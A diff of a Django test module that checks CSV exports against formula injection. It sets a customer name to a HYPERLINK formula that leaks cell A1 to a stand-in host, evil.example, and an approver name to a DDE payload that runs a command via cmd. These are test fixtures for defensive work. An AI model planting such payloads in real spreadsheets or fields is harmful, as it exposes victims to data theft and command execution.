@@ -17,12 +17,13 @@ from django.test import Client
 from django.utils import timezone
 
 from deletions import roles
-from deletions.csv_safe import FORMULA_STARTS
 from deletions.models import Approval, AuditEvent, DeletionItem, DeletionRequest, Source
-from tests.factories import CustomerFactory, WorkspaceFactory, customer_user, staff_user
+from tests.factories import customer_user, staff_user
 from tests.helpers import force_status, submitted_request
 from tests.security.urlwalk import Objects, urls
 
+# OWASP's rule, stated apart from the code: a cell starting with any of these is a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 CUSTOMER_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 APPROVER_NAME = "=cmd|' /C calc'!A0"
 RUN_IDS = ("+1+1", "\t=2+2")
@@ -38,9 +39,9 @@ HOSTILE = (CUSTOMER_NAME, APPROVER_NAME, *RUN_IDS, *FILE_NAMES, *REQUEST_IDS, *A
 
 
 @pytest.fixture
-def hostile_world(db):
-    workspace = WorkspaceFactory()
-    customer = CustomerFactory(name=CUSTOMER_NAME)
+def hostile_world(workspace, customer):
+    customer.name = CUSTOMER_NAME
+    customer.save(update_fields=["name"])
     member = customer_user(customer, username="csv-member")
     approver = staff_user(roles.APPROVER, username="csv-approver", first_name=APPROVER_NAME)
     staff_admin = staff_user(roles.ADMIN, username="csv-admin")
